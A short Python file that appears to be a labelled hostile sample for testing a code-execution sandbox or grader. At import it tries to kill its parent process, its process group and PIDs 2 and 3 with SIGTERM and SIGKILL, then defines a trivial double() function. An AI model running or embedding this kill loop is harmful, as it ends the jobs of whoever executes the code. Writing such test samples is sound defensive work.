# family: processes
# tries: to kill whoever started it
# stock: no, it ends the batch
import os
import signal

WON = []
for target in (os.getppid(), 0 - os.getpgrp() or -1, 2, 3):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, number)
            WON.append(target)
        except (OSError, OverflowError):
            continue


def double(x):
    return 2 * x if WON else None
